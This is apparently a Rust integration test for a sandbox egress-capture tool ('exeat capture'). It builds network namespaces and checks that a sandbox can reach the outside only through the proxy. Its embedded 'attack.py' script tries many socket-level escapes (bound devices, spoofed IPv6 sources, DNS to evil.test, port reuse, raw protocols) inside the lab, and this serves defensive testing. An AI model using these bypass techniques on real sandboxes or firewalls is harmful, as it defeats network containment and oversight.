//! `exeat capture`: a sandbox beside the daemon, as in a pod, and one in a network of its own, with the daemon's machine as its only
//! way out.

use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use crate::callers::listeners::Certificates;
use crate::operation::cli::{output, text};

/// An origin at two addresses, another port, and a DNS server that writes down what it is asked.
const ORIGIN: &str = r#"
import http.server, socket, ssl, threading
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"from the origin\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args): pass
class V6(http.server.ThreadingHTTPServer): address_family = socket.AF_INET6
def serve(server): threading.Thread(target=server.serve_forever, daemon=True).start()
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("origin.pem", "origin-key.pem")
for kind, address, port in [(http.server.ThreadingHTTPServer, "203.0.113.9", 443), (V6, "2001:db8:2::9", 443)]:
    server = kind((address, port), Handler)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    serve(server)
serve(http.server.ThreadingHTTPServer(("203.0.113.9", 80), Handler))
serve(http.server.ThreadingHTTPServer(("203.0.113.9", 8081), Handler))
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind(("203.0.113.9", 53))
print("ready", flush=True)
while True:
    data, client = udp.recvfrom(512)
    open("queries", "a").write(repr(data) + "\n")
    udp.sendto(data[:2] + b"\x81\x83" + data[4:], client)
"#;

const CONFIG: &str = r#"
state_dir = "state"
[proxy]
listen = ["127.0.0.1:3128"]
[[proxy.listeners]]
listen = "[::]:15001"
mode = "transparent"
cidr_tasks = { "10.0.0.0/8" = "t", "203.0.113.0/24" = "t", "2001:db8::/32" = "t" }
[[proxy.listeners]]
listen = "[::]:15053"
mode = "dns"
cidr_tasks = { "127.0.0.0/8" = "t", "10.0.0.0/8" = "t", "203.0.113.0/24" = "t", "2001:db8::/32" = "t" }
[upstream]
extra_roots = ["clients.pem"]
[dns]
servers = []
hosts = { "api.test" = ["203.0.113.9"] }
[network]
allow_cidrs = ["203.0.113.0/24"]
[audit]
path = "audit.jsonl"
[integrations.api]
allowed_domains = ["api.test"]
ports = [80, 443]
plain_http = true
[tasks.t]
token = "file:token"
integrations = ["api"]
"#;

/// `world` has the origin, `pod` the daemon (user 65532) and a sandbox (user 12345), and `box` a sandbox that reaches the world only
/// through `pod`.
const SCRIPT: &str = r#"
set -e
mount -t tmpfs tmpfs /run
mkdir -p /run/netns
for name in world pod box; do ip netns add $name; ip -n $name link set lo up; done
ip link add w0 netns world type veth peer name p0 netns pod
ip link add p1 netns pod type veth peer name b0 netns box
address() { ip -n "$1" addr add "$3" dev "$2" $4; ip -n "$1" link set "$2" up; }
address world w0 203.0.113.9/24; address world w0 2001:db8:2::9/64 nodad
address pod p0 203.0.113.2/24; address pod p0 2001:db8:2::2/64 nodad
address pod p1 10.9.0.1/24; address pod p1 2001:db8:9::1/64 nodad
address box b0 10.9.0.2/24; address box b0 2001:db8:9::2/64 nodad
ip -n box route add default via 10.9.0.1
ip -n box route add default via 2001:db8:9::1
# An address without a route is refused before any rule.
ip -n pod route add default via 203.0.113.9
ip -n pod route add default via 2001:db8:2::9
ip -n world route add 10.9.0.0/24 via 203.0.113.2
ip -n world route add 2001:db8:9::/64 via 2001:db8:2::2
ip netns exec pod sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward; echo 1 > /proc/sys/net/ipv6/conf/all/forwarding'
echo "nameserver 203.0.113.9" > resolv.conf
mount --bind resolv.conf /etc/resolv.conf
as() { ip netns exec "$1" setpriv --reuid "$2" --regid "$2" --clear-groups "${@:3}"; }
trap 'kill $(jobs -p)' EXIT
mkfifo up
ip netns exec world python3 origin.py > up &
read ready < up
mkdir state; chown 65532:65532 state; touch state/log; chown 65532 state/log
# No function, whose process would be another one than the daemon.
ip netns exec pod setpriv --reuid 65532 --regid 65532 --clear-groups "$EXEAT" serve -c e.toml 2> log &
daemon=$!
until grep -q ready log; do kill -0 $daemon || { cat log >&2; exit 1; }; sleep 0.1; done
cp state/ca.pem ca.pem; chmod 644 ca.pem
try() { echo "$1: $(as "$2" 12345 env CURL_CA_BUNDLE=$PWD/ca.pem HOME=/nonexistent "${@:3}" 2>&1 | tr '\n' ' ')"; }
all() {
    try "$1 https" "$2" curl -sS -m 9 https://api.test/
    try "$1 http" "$2" curl -sS -m 9 http://api.test/
    try "$1 other port" "$2" curl -sS -m 9 http://203.0.113.9:8081/
    try "$1 v6" "$2" curl -k -sS -m 9 "https://[2001:db8:2::9]/"
    try "$1 denied" "$2" curl -sS -m 9 https://evil.test/
    try "$1 dig" "$2" dig +short +tries=1 +timeout=5 api.test
    try "$1 udp" "$2" python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(9); s.connect(("203.0.113.9", 54)); s.send(b"x"); s.recv(1)'
}
started() { ip netns exec world python3 "$@" > started & for i in $(seq 100); do grep -q ready started && break; sleep 0.1; done; rm started; }
started sniffer.py; started reuse_tcp.py serve; started closing.py serve
# Returns what the world has seen of an attack.
attack() {
    : > leaks
    as "$2" 12345 env python3 attack.py "${@:3}" > attacked 2>&1 || cat attacked >&2
    sleep 1
    echo "$1 attack: $(sort leaks | uniq -c | tr '\n' ' ')"
}
link_local() { ip -n pod -6 addr show dev "$1" scope link | sed -n 's/.*inet6 \(.*\)\/.*/\1/p'; }
ip -n world addr add "$(link_local p1)/64" dev w0 nodad
stray() { ip netns exec world python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.setsockopt(0, 3, 1); import struct; d = b"stray"; h = struct.pack("!BBHHHBBH4s4s", 69, 0, 33, 1, 0, 64, 17, 0, socket.inet_aton("203.0.113.9"), socket.inet_aton("203.0.113.2")); s.sendto(h + struct.pack("!HHHH", 53, 45678, 13, 0) + d, ("203.0.113.2", 0))'; }
pod_attack() { stray; attack "$1" pod p0 203.0.113.2 2001:db8:2::9 2001:db8:2::2 "$(link_local p1)"; }
box_attack() { attack "$1" box b0 10.9.0.1 2001:db8:2::9 2001:db8:9::1 "$(link_local p1)"; }
touch leaks reused closed; chmod 666 leaks reused closed
all none-pod pod; all none-box box
pod_attack none-pod; box_attack none-box
: > queries
install() { ip netns exec pod "$EXEAT" capture install -c e.toml --user 65532 "$@"; }
rules() { ip netns exec pod nft list ruleset | md5sum; }
install
first="$(rules)"; install
[ "$first" = "$(rules)" ] && echo "again: same"
all pod pod
echo "daemon: $(as pod 65532 curl -sS -m 9 http://203.0.113.9:8081/ 2>&1)"
echo "proxy: $(as pod 12345 curl -sS -m 9 --cacert ca.pem -x "http://t:$(cat token)@127.0.0.1:3128" https://api.test/ 2>&1)"
# A resolver as Docker's.
ip netns exec pod python3 resolver.py > resolver-up &
for i in $(seq 100); do grep -q ready resolver-up && break; sleep 0.1; done
try "local resolver" pod dig +short +tries=1 +timeout=5 @127.0.0.11 api.test
try "its own port" pod python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(9); s.connect(("127.0.0.11", 5353)); s.send(b"x"); s.recv(1)'
# The port of the daemon's query, while the kernel still has its entry.
echo "reused: $(ip netns exec pod python3 reuse.py 2>&1 | tail -1)"
ip netns exec pod python3 reuse_tcp.py ask; sleep 1
echo "reused tcp: $(sort reused | tr '\n' ' ')"
pod_attack pod
install --interface p1
all box box
box_attack box
# Listeners for IPv4 only: IPv6 is refused at once.
sed 's/\[::\]/0.0.0.0/' e.toml > four.toml
"$EXEAT" capture print -c four.toml --user 65532 --only 12345 --interface p1 | ip netns exec pod nft -f -
try "four pod v6" pod curl -k -sS -m 9 "https://[2001:db8:2::9]/"
try "four box v6" box curl -k -sS -m 9 "https://[2001:db8:2::9]/"
install --interface p1
ip -n pod link add br0 type bridge; ip -n pod link add d0 type veth peer name d1; ip -n pod link set d0 master br0
echo "bridge: $(install --interface d0 2>&1)"
echo "no interface: $(install --interface nosuch0 2>&1)"
try "box gateway" box curl -sS -m 9 http://10.9.0.1:9999/
echo "uncaptured: $(as pod 12345 curl -sS -m 9 http://203.0.113.9:8081/ 2>&1)"
echo "broken: $(ip netns exec pod "$EXEAT" capture install -c none.toml --user 65532 2>&1; ip netns exec pod nft list tables)"
install --interface p1 --only 12345
all both-pod pod; all both-box box
pod_attack both-pod; box_attack both-box
sent=$(ip netns exec pod python3 closing.py send)
for i in $(seq 90); do [ -s closed ] && break; sleep 0.1; done
[ "$(cat closed)" = "$sent" ] && echo "closed: whole"
kill -9 $daemon
wait $daemon 2>/dev/null || true
all killed-pod pod; all killed-box box
wc -l < queries | sed 's/^/queries: /'
ip netns exec pod "$EXEAT" capture remove; ip netns exec pod "$EXEAT" capture remove
echo "left: $(ip netns exec pod nft list ruleset)"
all removed-pod pod; all removed-box box
"#;

/// Sees what arrives from the pod's network, whatever its addresses say.
const SNIFFER: &str = r#"
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)); s.bind(("w0", 0))
print("ready", flush=True)
while True:
    packet = s.recv(65536)
    at = packet.find(b"LEAK-")
    if at >= 0: open("leaks", "ab").write(packet[at:at + 20].split(b"\0")[0] + b"\n")
"#;

/// A sandbox that sends by every option of a socket that needs no privilege. Errors are what is wanted.
const ATTACK: &str = r#"
import os, socket, struct, sys
FREEBIND6, UNICAST_IF, BINDTODEVICE = (41, 78), (0, 50), (1, 25)
device, gateway, far6, own6 = sys.argv[1:5]
def udp(family, options=(), at=None, to=None, data=b""):
    try:
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(0.3)
        for (level, option), value in options: s.setsockopt(level, option, value)
        if at: s.bind(at)
        s.sendto(data, to)
        return s
    except OSError: return s
def tcp(family, options, at, to):
    try:
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(0.5)
        for (level, option), value in options: s.setsockopt(level, option, value)
        if at: s.bind(at)
        s.connect(to); s.send(b"LEAK-tcp"); s.recv(9)
    except OSError: pass
bound = [(BINDTODEVICE, device.encode() + b"\0")]
four, six = socket.AF_INET, socket.AF_INET6
udp(four, to=("203.0.113.9", 54), data=b"LEAK-direct")
udp(six, to=(far6, 54), data=b"LEAK-direct6")
for to in ("127.0.0.5", "8.8.8.8", gateway): 
    for port in (53, 54): udp(four, bound, None, (to, port), b"LEAK-bound")
    udp(four, [(UNICAST_IF, struct.pack("!I", socket.if_nametoindex(device)))], None, (to, 54), b"LEAK-unicast")
    tcp(four, bound, None, (to, 443))
for to in ("::1", own6, "2001:db8:77::1"):
    for port in (53, 54): udp(six, bound, None, (to, port), b"LEAK-bound6")
# A source that is another machine's: the answer would go there.
# The address of another interface, which is only local to that one.
udp(six, to=(sys.argv[5], 54, 0, socket.if_nametoindex(device)), data=b"LEAK-link")
# The port that a stray packet from outside was for.
udp(four, at=("0.0.0.0", 45678), to=("203.0.113.9", 53), data=b"LEAK-stray")
listener = socket.socket(six, socket.SOCK_DGRAM); listener.bind(("::", 4000)); listener.settimeout(0.3)
udp(six, [(FREEBIND6, 1)], (far6, 5000), (own6, 4000), b"x")
try: listener.sendto(b"LEAK-reply6", (far6, 5000))
except OSError: pass
udp(six, [(FREEBIND6, 1)], (far6, 5001), (own6, 4001), b"LEAK-icmp6")
question = lambda name: b"\0\7\1\0\0\1\0\0\0\0\0\0" + bytes([len(name)]) + name + b"\4evil\4test\0\0\1\0\1"
udp(six, [(FREEBIND6, 1)], (far6, 5002), (far6, 53), question(b"LEAK-dns"))
udp(six, [(FREEBIND6, 1)], (far6, 5003), (own6, 53), question(b"LEAK-dns"))
group = b"\xff\x0eLEAK-multicast"
try: s = socket.socket(six, socket.SOCK_DGRAM); s.setsockopt(41, 20, group + struct.pack("I", socket.if_nametoindex(device)))
except OSError: pass
for kind, proto in ((socket.SOCK_DGRAM, 1), (socket.SOCK_SEQPACKET, 132), (socket.SOCK_DGRAM, 136)):
    try: s = socket.socket(four, kind, proto); s.settimeout(0.3); s.sendto(b"\x08\0\0\0\0\0\0\0LEAK-proto", ("203.0.113.9", 54))
    except OSError: pass
"#;

/// The daemon's user has a connection that the server resets; then the sandbox's user connects from the same port.
const REUSE_TCP: &str = r#"
import os, socket, struct, sys, time
if sys.argv[1] == "serve":
    s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("203.0.113.9", 7443)); s.listen()
    print("ready", flush=True)
    while True:
        c, _ = s.accept(); c.settimeout(2)
        try: data = c.recv(99)
        except OSError: data = b""
        open("reused", "ab").write(data + b"\n")
        c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); c.close()
def ask(user, data):
    pid = os.fork()
    if pid == 0:
        os.setgid(user); os.setuid(user)
        try:
            s = socket.socket(); s.settimeout(2); s.setsockopt(1, 2, 1); s.bind(("203.0.113.2", 40443))
            s.connect(("203.0.113.9", 7443)); s.send(data); s.recv(9)
        except OSError: pass
        os._exit(0)
    os.waitpid(pid, 0)
ask(65532, b"daemon")
ask(12345, b"sandbox")
"#;

/// A user that is not captured closes with data left to send, which arrives all the same.
const CLOSING: &str = r#"
import socket, sys
if sys.argv[1] == "serve":
    s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(("203.0.113.9", 7444)); s.listen()
    print("ready", flush=True)
    while True:
        c, _ = s.accept(); c.settimeout(9); total = 0
        try:
            while (data := c.recv(65536)): total += len(data)
            open("closed", "a").write(f"{total}\n")
        except OSError as error: open("closed", "a").write(f"{error}\n")
s = socket.socket(); s.connect(("203.0.113.9", 7444))
s.setblocking(False); total = 0
try:
    while True: total += s.send(b"x" * 65536)
except BlockingIOError: pass
s.close(); print(total)
"#;

const RESOLVER: &str = r#"
import socket, select
sockets = []
for port in (53, 5353):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.11", port)); sockets.append(s)
print("ready", flush=True)
while True:
    for s in select.select(sockets, [], [])[0]:
        data, client = s.recvfrom(512)
        open("queries", "a").write(repr(data) + "\n")
        s.sendto(data, client)
"#;

/// The daemon's user asks a server; then the sandbox's user sends from the same port.
const REUSE: &str = r#"
import os, socket, sys
def ask(user):
    pid = os.fork()
    if pid == 0:
        os.setgid(user); os.setuid(user)
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
        s.bind(("203.0.113.2", 40053)); s.connect(("203.0.113.9", 53))
        try:
            s.send(b"\0\7\1\0\0\1\0\0\0\0\0\0\5reuse%d\0\0\1\0\1" % (user % 10)); s.recv(512); print("OPEN", flush=True)
        except OSError as error: print(error, flush=True)
        os._exit(0)
    os.waitpid(pid, 0)
ask(65532)
ask(12345)
"#;

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs root, unshare, ip, nft, setpriv, dig, curl and python3"]
async fn a_captured_sandbox_has_no_other_way_out() {
    if !rustix::process::geteuid().is_root() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let (cert, key) = Certificates::new(dir.path()).issue(&["api.test"], 7);
    let files = [
        ("origin.pem", cert.as_str()),
        ("origin-key.pem", &key),
        ("origin.py", ORIGIN),
        ("reuse.py", REUSE),
        ("resolver.py", RESOLVER),
        ("sniffer.py", SNIFFER),
        ("attack.py", ATTACK),
        ("reuse_tcp.py", REUSE_TCP),
        ("closing.py", CLOSING),
        ("e.toml", CONFIG),
        ("none.toml", "[proxy]\nlisten = [\"127.0.0.1:3128\"]\n"),
        ("token", crate::lab::TOKEN),
    ];
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
        std::fs::set_permissions(dir.path().join(name), std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let copied = Command::new("cp").args([env!("CARGO_BIN_EXE_exeat"), "exeat"]).current_dir(dir.path()).status();
    assert!(copied.unwrap().success());
    let mut command = Command::new("unshare");
    command.args(["-n", "-m", "bash", "-c", SCRIPT]).current_dir(dir.path());
    command.env("EXEAT", dir.path().join("exeat"));
    let output = output(command).await;
    let out = text(&output.stdout);
    let said = |name: &str| {
        let line = out.lines().find_map(|line| line.strip_prefix(&format!("{name}: ")));
        line.unwrap_or_else(|| panic!("{name}: {out}\n{}", text(&output.stderr)))
    };
    const REACHED: &str = "from the origin";
    // Without rules, everything but the names is reached: what fails later fails because of them.
    for state in ["none-pod", "none-box", "removed-pod", "removed-box"] {
        for way in ["other port", "v6"] {
            assert!(said(&format!("{state} {way}")).contains(REACHED), "{state} {way}: {out}");
        }
        assert!(said(&format!("{state} https")).contains("Could not resolve"), "{state}: {out}");
    }
    for state in ["pod", "box", "both-pod", "both-box"] {
        for (way, want) in [
            ("https", REACHED),
            ("http", REACHED),
            ("other port", "host_not_allowed"),
            ("v6", "unrecognized name"),
            ("denied", "Could not resolve"),
            ("dig", "198.1"),
            ("udp", "Error: [Errno"),
        ] {
            let told = said(&format!("{state} {way}"));
            assert!(told.contains(want), "{state} {way}: {told}\n{}", text(&output.stderr));
        }
    }
    for state in ["killed-pod", "killed-box"] {
        for way in ["https", "http", "other port", "v6", "denied", "dig", "udp"] {
            let told = said(&format!("{state} {way}"));
            assert!(!told.contains(REACHED) && !told.contains("198.1"), "{state} {way}: {told}");
        }
    }
    for state in ["none-pod", "none-box", "pod", "box", "both-pod", "both-box"] {
        let (is_open, seen) = (state.starts_with("none"), said(&format!("{state} attack")));
        // On a machine with other users, the kernel reports the multicast groups of all.
        let seen = if state == "both-pod" { &seen.replace("LEAK-multicast", "") } else { seen };
        assert!(seen.contains("LEAK-") == is_open, "{state}: {seen}\n{}", text(&output.stderr));
    }
    let rows = [
        ("reused tcp", "daemon "),
        ("four pod v6", "Couldn't connect to server"),
        ("four box v6", "Couldn't connect to server"),
        ("bridge", "seen as arriving by \"br0\""),
        ("no interface", "this machine has no interface \"nosuch0\""),
        ("closed", "whole"),
        ("again", "same"),
        ("daemon", REACHED),
        ("proxy", REACHED),
        ("reused", "Operation not permitted"),
        ("local resolver", "198.1"),
        ("its own port", "Error: [Errno"),
        ("box gateway", "host_not_allowed"),
        ("uncaptured", REACHED),
        ("broken", "no listener with mode = \"transparent\""),
        ("left", ""),
    ];
    for (name, want) in rows {
        assert!(said(name).contains(want), "{name}: {}", said(name));
    }
    assert_eq!((said("left"), said("reused tcp").trim()), ("", "daemon"), "{out}");
    assert!(out.contains("table inet exeat\n"), "a failed install leaves the rules: {out}");
    // The only query is that of the daemon's user.
    assert_eq!(said("queries").trim(), "1", "{:?}", std::fs::read_to_string(dir.path().join("queries")));
    let log = std::fs::read_to_string(dir.path().join("state/audit.jsonl")).unwrap();
    let lines: Vec<serde_json::Value> = log.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let reached = lines.iter().filter(|line| line["event"] == "closed" && line["addr"] == "203.0.113.9");
    assert!(reached.count() >= 8, "{log}");
    assert!(
        lines.iter().any(|line| line["original"] == "203.0.113.9:8081" && line["code"] == "host_not_allowed"),
        "{log}"
    );
}
